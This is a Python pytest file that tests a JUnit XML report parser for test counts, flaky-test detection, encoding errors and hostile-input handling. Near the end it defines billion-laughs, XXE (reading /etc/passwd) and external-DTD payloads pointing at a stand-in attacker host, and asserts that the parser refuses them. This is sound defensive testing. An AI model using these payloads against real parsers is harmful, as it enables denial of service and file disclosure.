"""JUnit XML: exact counts for every shared report, flaky detection, hostile XML refused."""

from __future__ import annotations

import codecs
import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from conductor.sources.errors import PayloadInvalid, PayloadTooLarge
from conductor.sources.junit import TestReportSummary, parse_junit, summarize_junit

# Counted from the <testcase> elements of each file (not the tests=/failures= attributes).
EXPECTED = {
    # root says tests=6 failures=4 and has no skipped=; the second suite has one <skipped/>
    "junit/jest-junit.xml": dict(total=6, failed=4, errors=0, skipped=1, passed=1, pass_rate=1 / 5),
    "junit/junit4-complete.xml": dict(total=8, failed=1, errors=1, skipped=1, passed=5, pass_rate=5 / 7),
    # the suite claims tests="15" but holds 10 <testcase>s; xfail is reported as <skipped type="pytest.xfail">
    "junit/python-xunit-pytest.xml": dict(total=10, failed=2, errors=0, skipped=2, passed=6, pass_rate=6 / 8),
    # XCTest's xunit output drops skips: test_always_skip has no <skipped/> and counts as passed
    "junit/swift-xunit.xml": dict(total=3, failed=1, errors=0, skipped=0, passed=2, pass_rate=2 / 3),
}


# Real reports of other tools, kept in this repository (tests/fixtures/junit/SOURCE says where each
# comes from). Counted by hand from the <testcase> elements: (total, failed, errors, skipped, flaky).
LOCAL = Path(__file__).resolve().parents[2] / "fixtures" / "junit"
LOCAL_EXPECTED = {
    # 6 suites of jest's own run: "should add 1 to number" x3, two shouldRunInBand() names x6 each,
    # two names x2 in multiProjectRunner; 2 <failure>, 3 <skipped>
    "jest-junit-jest-repo.xml": (52, 2, 0, 3, None),
    # TestNG: 2+3+5+6+6+5 cases; a data provider repeats names; the retry analyzer reports 4 skipped
    # attempts and 1 pass of shouldCallSetupBeforeRetrying; testVersionStrings is skipped once, failed once
    "testng-pulsar.xml": (27, 1, 0, 8, None),
    # testFlaky: 3 <flakyFailure> + 1 <flakyError>, then passed; testStable passed (suite says tests="1")
    "surefire-flaky.xml": (2, 0, 0, 0, 1),
    # a test that throws IOException is a <failure> in Gradle's report, not an <error>
    "gradle.xml": (4, 2, 0, 1, None),
    # test-retry without mergeReruns: attempts 1 and 2 failed, attempt 3 passed, nothing marks a rerun
    "gradle-test-retry.xml": (3, 2, 0, 0, None),
    "go-junit-report.xml": (5, 1, 0, 2, None),
    "go-junit-report-panic.xml": (2, 0, 2, 0, None),
    # go test -count=3: three runs of TestRepeat, three cases
    "go-junit-report-repeated-names.xml": (3, 0, 0, 0, None),
    # 1 + 18 + 12 + 29 cases (the root says 59: badmain's TestMain is not in its suite's tests=)
    "gotestsum.xml": (60, 13, 0, 5, None),
    # UTF-8 BOM and no XML declaration; names like TestE repeat under different classnames
    "dotnet-junit-testlogger.xml": (52, 14, 0, 6, None),
    # 30 cases (the root says 28: two ad hoc failures with name=""); the 2 DISABLED_ tests have only
    # status="notrun" result="suppressed" and are skipped; SkippedAfterFailure has <failure> and <skipped>
    "googletest.xml": (30, 7, 0, 5, None),
}


@pytest.mark.parametrize("name", sorted(LOCAL_EXPECTED))
def test_real_reports_of_other_tools(name):
    total, failed, errors, skipped, flaky = LOCAL_EXPECTED[name]
    summary = summarize_junit((LOCAL / name).read_bytes())
    passed = total - failed - errors - skipped
    assert (summary.total, summary.failed, summary.errors, summary.skipped, summary.flaky) == (total, failed, errors, skipped, flaky)
    assert summary.passed == passed
    assert summary.pass_rate == pytest.approx(passed / (total - skipped))


def test_every_local_fixture_is_checked():
    assert sorted(p.name for p in LOCAL.glob("*.xml")) == sorted(LOCAL_EXPECTED)


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_fixture_counts(fixture_bytes, name):
    summary = summarize_junit(fixture_bytes(name))
    expected = EXPECTED[name]
    assert summary.model_dump(exclude={"pass_rate", "flaky"}) == {k: v for k, v in expected.items() if k != "pass_rate"}
    assert summary.pass_rate == pytest.approx(expected["pass_rate"])
    assert summary.flaky is None  # no retries visible in any of them


def test_fixture_signals(fixture_bytes):
    signals = {s.name: s for s in parse_junit(fixture_bytes("junit/python-xunit-pytest.xml"))}
    assert {name: s.value for name, s in signals.items()} == {
        "tests_total": 10,
        "tests_failed": 2,
        "tests_errors": 0,
        "tests_skipped": 2,
        "tests_pass_rate": 0.75,
    }
    assert signals["tests_pass_rate"].samples == 8


def test_bare_testsuite_root():
    xml = b"""<testsuite name="s" tests="2">
      <testcase classname="c" name="a"/>
      <testcase classname="c" name="b"><error message="boom"/></testcase>
    </testsuite>"""
    summary = summarize_junit(xml)
    assert (summary.total, summary.errors, summary.passed, summary.pass_rate) == (2, 1, 1, 0.5)


def test_nested_suites_are_counted():
    xml = b"""<testsuites><testsuite name="outer">
      <testcase classname="c" name="a"/>
      <testsuite name="inner"><testcase classname="c" name="a"><failure/></testcase></testsuite>
    </testsuite></testsuites>"""
    summary = summarize_junit(xml)
    # same classname+name in different suites are different tests, not retries
    assert (summary.total, summary.failed, summary.passed, summary.flaky) == (2, 1, 1, None)


def test_empty_report_has_no_pass_rate():
    summary = summarize_junit(b"<testsuites/>")
    assert (summary.total, summary.pass_rate) == (0, None)
    assert [s.name for s in summary.signals()] == ["tests_total", "tests_failed", "tests_errors", "tests_skipped"]


def test_all_skipped_has_no_pass_rate():
    summary = summarize_junit(b'<testsuite><testcase name="a"><skipped/></testcase></testsuite>')
    assert (summary.total, summary.skipped, summary.pass_rate) == (1, 1, None)


# ------------------------------------------------------------------ flaky


def test_surefire_flaky_failure():
    xml = b"""<testsuite name="com.acme.AppTest">
      <testcase classname="com.acme.AppTest" name="sometimes">
        <flakyFailure message="expected 1" type="java.lang.AssertionError"><stackTrace>at ...</stackTrace></flakyFailure>
      </testcase>
      <testcase classname="com.acme.AppTest" name="always"/>
      <testcase classname="com.acme.AppTest" name="broken">
        <failure message="x"/><rerunFailure message="x"/>
      </testcase>
    </testsuite>"""
    summary = summarize_junit(xml)
    assert (summary.total, summary.passed, summary.failed, summary.flaky) == (3, 2, 1, 1)
    assert {s.name: s.value for s in summary.signals()}["tests_flaky"] == 1


def test_surefire_reruns_that_never_passed_are_not_flaky():
    xml = b"""<testsuite><testcase classname="c" name="broken">
      <failure/><rerunFailure/><rerunFailure/></testcase></testsuite>"""
    summary = summarize_junit(xml)
    assert (summary.total, summary.failed, summary.flaky) == (1, 1, 0)


def test_cases_sharing_a_name_are_distinct_tests():
    # found by hostile testing: the failure was merged away as a "retry" of the passing case
    xml = b"""<testsuite name="s"><testcase classname="" name="works"><failure/></testcase>
      <testcase classname="" name="works"/><testcase classname="" name="other"/></testsuite>"""
    summary = summarize_junit(xml)
    assert (summary.total, summary.failed, summary.passed, summary.flaky) == (3, 1, 2, None)
    assert summary.pass_rate == pytest.approx(2 / 3)


def test_a_failure_is_not_hidden_by_a_later_pass_of_the_same_name():
    # what the old rule read as "failed, then passed on retry": nothing in the report says retry
    # (this test replaces test_repeated_case_failed_then_passed, which expected 2 tests, 0 failed)
    xml = b"""<testsuite name="s">
      <testcase classname="c" name="retried"><failure/></testcase>
      <testcase classname="c" name="retried"/>
      <testcase classname="c" name="stable"/>
    </testsuite>"""
    summary = summarize_junit(xml)
    assert (summary.total, summary.passed, summary.failed, summary.flaky) == (3, 2, 1, None)


def test_repeated_failures_of_one_name_all_count():
    # replaces test_repeated_case_still_failing_is_not_flaky, which expected 1 test
    xml = b"""<testsuite name="s">
      <testcase classname="c" name="retried"><failure/></testcase>
      <testcase classname="c" name="retried"><error/></testcase>
      <testcase classname="c" name="retried"><skipped/></testcase>
    </testsuite>"""
    summary = summarize_junit(xml)
    assert (summary.total, summary.failed, summary.errors, summary.skipped, summary.flaky) == (3, 1, 1, 1, None)


def test_flaky_case_does_not_hide_a_failure_of_the_same_name():
    xml = b"""<testsuite name="s">
      <testcase classname="c" name="t"><flakyFailure message="first try"/></testcase>
      <testcase classname="c" name="t"><failure/><rerunFailure/></testcase>
    </testsuite>"""
    summary = summarize_junit(xml)
    assert (summary.total, summary.passed, summary.failed, summary.flaky) == (2, 1, 1, 1)


def test_ctest_disabled_case_is_skipped():
    # the shape of cmCTestTestHandler::WriteJUnitXML: a DISABLED test gets status="disabled" and no
    # <skipped> child; a test that could not run gets status="notrun" and a <skipped> child
    xml = b"""<testsuite name="build" tests="4" failures="1" disabled="1" skipped="1">
      <testcase name="ok" classname="ok" time="0.1" status="run"><properties/><system-out/></testcase>
      <testcase name="off" classname="off" time="0" status="disabled"><properties/><system-out>Disabled</system-out></testcase>
      <testcase name="gone" classname="gone" time="0" status="notrun"><skipped message="Unable to find executable"/><properties/></testcase>
      <testcase name="bad" classname="bad" time="0.2" status="fail"><failure message="Failed"/><properties/></testcase>
    </testsuite>"""
    summary = summarize_junit(xml)
    assert (summary.total, summary.passed, summary.failed, summary.skipped) == (4, 1, 1, 2)
    assert summary.pass_rate == 0.5


@pytest.mark.parametrize(
    "attrs",
    ['status="disabled"', 'status="notrun" result="suppressed"', 'status="run" result="skipped"', 'status="NotRun"'],
)
def test_not_run_attributes_mean_skipped(attrs):
    xml = f'<testsuite><testcase name="a" {attrs}/><testcase name="b" status="run" result="completed"/></testsuite>'.encode()
    summary = summarize_junit(xml)
    assert (summary.total, summary.skipped, summary.passed, summary.pass_rate) == (2, 1, 1, 1.0)


def test_failure_child_wins_over_a_not_run_attribute():
    xml = b"""<testsuite><testcase name="a" status="disabled"><failure/></testcase>
      <testcase name="b" status="notrun" result="suppressed"><error/></testcase></testsuite>"""
    summary = summarize_junit(xml)
    assert (summary.total, summary.failed, summary.errors, summary.skipped) == (2, 1, 1, 0)


def test_only_direct_children_decide_a_case():
    # a <failure> nested in a <flakyFailure> or <properties> is not the case's own result
    xml = b"""<testsuite><testcase name="a"><flakyFailure><failure/></flakyFailure></testcase>
      <testcase name="b"><properties><skipped/></properties></testcase></testsuite>"""
    summary = summarize_junit(xml)
    assert (summary.total, summary.passed, summary.failed, summary.skipped, summary.flaky) == (2, 2, 0, 0, 1)


@settings(max_examples=60, deadline=None)
@given(st.lists(st.sampled_from(["passed", "failure", "error", "skipped"]), max_size=30), st.booleans())
def test_counts_match_generated_reports(states, bare_root):
    body = {"passed": "", "failure": "<failure/>", "error": "<error/>", "skipped": "<skipped/>"}
    cases = "".join(f'<testcase classname="c" name="t{i}">{body[s]}</testcase>' for i, s in enumerate(states))
    suite = f'<testsuite name="s" tests="999">{cases}</testsuite>'
    xml = (suite if bare_root else f"<testsuites>{suite}</testsuites>").encode()
    summary = summarize_junit(xml)
    assert summary.total == len(states)
    assert (summary.passed, summary.failed, summary.errors, summary.skipped) == tuple(
        states.count(s) for s in ("passed", "failure", "error", "skipped")
    )
    executed = len(states) - states.count("skipped")
    assert summary.pass_rate == (states.count("passed") / executed if executed else None)


# ------------------------------------------------------------------ hostile and broken XML

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<testsuite><testcase name="&lol9;"/></testsuite>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE testsuite [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<testsuite><testcase name="&xxe;"/></testsuite>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE testsuite SYSTEM "http://attacker.invalid/evil.dtd">
<testsuite><testcase name="a"/></testsuite>"""


@pytest.mark.parametrize("xml", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD], ids=["billion-laughs", "xxe", "external-dtd"])
def test_hostile_xml_is_refused_quickly(xml):
    started = time.perf_counter()
    with pytest.raises(PayloadInvalid) as info:
        parse_junit(xml)
    assert info.value.field == "xml.doctype"
    assert time.perf_counter() - started < 1.0


def test_oversized_report_is_refused_before_parsing():
    big = b"<testsuites>" + b"<!-- padding -->" * 1000 + b"</testsuites>"
    with pytest.raises(PayloadTooLarge) as info:
        parse_junit(big, max_bytes=1000)
    assert (info.value.size, info.value.limit) == (len(big), 1000)
    # not even well-formed XML: proves nothing was parsed
    with pytest.raises(PayloadTooLarge):
        parse_junit(b"<" * 5_000_001)


def test_malformed_xml():
    with pytest.raises(PayloadInvalid) as info:
        parse_junit(b"<testsuites><testsuite></testsuites>")
    assert info.value.field == "xml"
    assert "line 1" in str(info.value)


@pytest.mark.parametrize("encoding", ["x-bogus", "rot13", "zip", "base64", "hex"])
def test_unknown_declared_encoding_is_refused(encoding):
    # x-bogus raised LookupError (an HTTP 500); rot13/zip/base64 are codecs but not text encodings
    xml = f'<?xml version="1.0" encoding="{encoding}"?><testsuite><testcase name="a"/></testsuite>'.encode()
    with pytest.raises(PayloadInvalid) as info:
        parse_junit(xml)
    assert info.value.field == "xml.encoding"
    assert repr(encoding) in str(info.value)


def test_unknown_encoding_in_a_utf16_declaration_is_refused():
    xml = '<?xml version="1.0" encoding="x-bogus"?><testsuite/>'.encode("utf-16")
    with pytest.raises(PayloadInvalid) as info:
        parse_junit(xml)
    assert info.value.field == "xml.encoding"
    assert "x-bogus" in str(info.value)


def test_a_huge_encoding_name_is_not_echoed_whole():
    xml = b'<?xml version="1.0" encoding="' + b"x" * 100_000 + b'"?><testsuite/>'
    with pytest.raises(PayloadInvalid) as info:
        parse_junit(xml)
    assert info.value.field == "xml.encoding"
    assert len(str(info.value)) < 400


@pytest.mark.parametrize(
    "xml",
    [
        b'<?xml version="1.0" encoding="idna"?><testsuite/>',  # codec error inside expat's decoder
        b'<?xml version="1.0" encoding="shift_jis"?><testsuite name="\x81"/>',  # multi-byte: unsupported
        b'<?xml version="1.0" encoding="utf-8"?><testsuite name="\xff\xfe"/>',  # not UTF-8
        b'<?xml version="1.0" encoding="utf-16"?><testsuite/>',  # declaration contradicts the bytes
        b"",
        b"\x00",
    ],
    ids=["idna", "shift_jis", "bad-utf8", "utf16-declared", "empty", "nul"],
)
def test_undecodable_xml_is_refused(xml):
    with pytest.raises(PayloadInvalid) as info:
        parse_junit(xml)
    assert info.value.field in ("xml", "xml.encoding")


def test_other_declared_encodings_still_work():
    latin1 = '<?xml version="1.0" encoding="ISO-8859-1"?><testsuite><testcase name="caf\u00e9"/></testsuite>'.encode("latin-1")
    utf16 = '<?xml version="1.0" encoding="UTF-16"?><testsuite><testcase name="a"><failure/></testcase></testsuite>'.encode("utf-16")
    assert summarize_junit(latin1).total == 1
    assert summarize_junit(utf16).failed == 1


_CODEC_NAMES = sorted(
    {codecs.lookup(n).name for n in ("utf-8", "latin-1", "cp1252", "utf-16", "ascii")}
    | {
        "x-bogus",
        "rot13",
        "zip",
        "hex",
        "bz2",
        "uu",
        "quopri",
        "idna",
        "punycode",
        "undefined",
        "utf-7",
        "utf-32",
        "big5",
        "unicode_escape",
        "raw_unicode_escape",
        "mbcs",
        "oem",
        "",
    }
)


@pytest.mark.filterwarnings("ignore::DeprecationWarning")  # expat decoding with unicode_escape
@settings(max_examples=200, deadline=None)
@given(st.one_of(st.sampled_from(_CODEC_NAMES), st.text(max_size=20)), st.binary(max_size=40))
def test_parse_path_raises_nothing_but_payload_invalid(encoding, junk):
    head = f'<?xml version="1.0" encoding="{encoding}"?>'.encode("utf-8", "surrogatepass")
    for xml in (head + b"<testsuite><testcase name='" + junk + b"'/></testsuite>", head + junk, junk):
        try:
            summarize_junit(xml)
        except PayloadInvalid:
            pass


def test_wrong_root_element():
    with pytest.raises(PayloadInvalid) as info:
        parse_junit(b"<html><body/></html>")
    assert info.value.field == "xml.root"
    assert "<html>" in str(info.value)


def test_doctype_text_inside_cdata_is_fine():
    xml = b"""<testsuite><testcase name="snapshot"><failure><![CDATA[expected <!DOCTYPE html>]]></failure></testcase></testsuite>"""
    assert summarize_junit(xml).failed == 1


def test_summary_is_not_collected_as_a_test():
    assert TestReportSummary.__test__ is False
